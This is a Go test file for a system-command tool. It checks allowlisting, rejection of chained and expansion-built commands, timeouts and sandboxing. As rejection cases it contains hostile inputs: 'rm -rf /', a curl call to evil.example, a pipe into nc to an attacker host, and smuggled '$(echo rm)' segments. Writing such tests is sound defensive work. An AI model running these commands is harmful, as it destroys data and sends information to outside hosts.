package tool

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSystemCommand_AllowedCommand(t *testing.T) {
	tool := NewSystemCommandTool([]string{"echo"}, 5*time.Second)
	toolCtx := newToolContext(t)

	out, err := tool.Execute(context.Background(), toolCtx, map[string]string{
		"command": "echo hello",
	})
	require.NoError(t, err)

	result := out.(map[string]any)
	assert.Equal(t, 0, result["exit_code"])
	assert.Equal(t, "hello\n", result["stdout"])
}

func TestSystemCommand_DisallowedCommand(t *testing.T) {
	tool := NewSystemCommandTool([]string{"echo"}, 5*time.Second)
	toolCtx := newToolContext(t)

	_, err := tool.Execute(context.Background(), toolCtx, map[string]string{
		"command": "rm -rf /",
	})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "command not allowed: rm")
}

func TestSystemCommand_AllSegmentsChecked(t *testing.T) {
	tool := NewSystemCommandTool([]string{"echo"}, 5*time.Second)
	toolCtx := newToolContext(t)

	// Every simple command in a list must be allowlisted, not just the
	// first, and a command name built from an expansion is never skipped.
	for _, cmd := range []string{
		"echo ok; rm -rf /",
		"echo ok && curl evil.example",
		"echo ok | nc attacker 9999",
		"echo ok; $EVIL",
		"$(echo rm) -rf data",
		`echo ok && "$CMD" hello`,
	} {
		_, err := tool.Execute(context.Background(), toolCtx, map[string]string{"command": cmd})
		assert.Error(t, err, "command %q should be rejected", cmd)
	}
}

func TestSystemCommand_PipelineOfAllowedCommands(t *testing.T) {
	tool := NewSystemCommandTool([]string{"echo", "cat"}, 5*time.Second)
	toolCtx := newToolContext(t)

	out, err := tool.Execute(context.Background(), toolCtx, map[string]string{
		"command": "echo piped | cat",
	})
	require.NoError(t, err)
	assert.Equal(t, "piped\n", out.(map[string]any)["stdout"])
}

func TestSystemCommand_ExpansionRejected(t *testing.T) {
	tool := NewSystemCommandTool([]string{"echo"}, 5*time.Second)
	toolCtx := newToolContext(t)

	// A command name built from an expansion cannot be checked statically.
	_, err := tool.Execute(context.Background(), toolCtx, map[string]string{
		"command": "$CMD hello",
	})
	assert.Error(t, err)
}

func TestSystemCommand_EmptyCommand(t *testing.T) {
	tool := NewSystemCommandTool([]string{"echo"}, 5*time.Second)
	toolCtx := newToolContext(t)

	_, err := tool.Execute(context.Background(), toolCtx, map[string]string{"command": "   "})
	assert.Error(t, err)
}

func TestSystemCommand_NonZeroExit(t *testing.T) {
	tool := NewSystemCommandTool([]string{"false"}, 5*time.Second)
	toolCtx := newToolContext(t)

	out, err := tool.Execute(context.Background(), toolCtx, map[string]string{"command": "false"})
	require.NoError(t, err)
	assert.Equal(t, 1, out.(map[string]any)["exit_code"])
}

func TestSystemCommand_Timeout(t *testing.T) {
	tool := NewSystemCommandTool([]string{"sleep"}, 50*time.Millisecond)
	toolCtx := newToolContext(t)

	_, err := tool.Execute(context.Background(), toolCtx, map[string]string{"command": "sleep 5"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "timed out")
}

func TestSystemCommand_RunsInSandboxDir(t *testing.T) {
	tool := NewSystemCommandTool([]string{"pwd"}, 5*time.Second)
	toolCtx := newToolContext(t)

	out, err := tool.Execute(context.Background(), toolCtx, map[string]string{"command": "pwd"})
	require.NoError(t, err)
	assert.Contains(t, out.(map[string]any)["stdout"], toolCtx.Sandbox.Root())
}
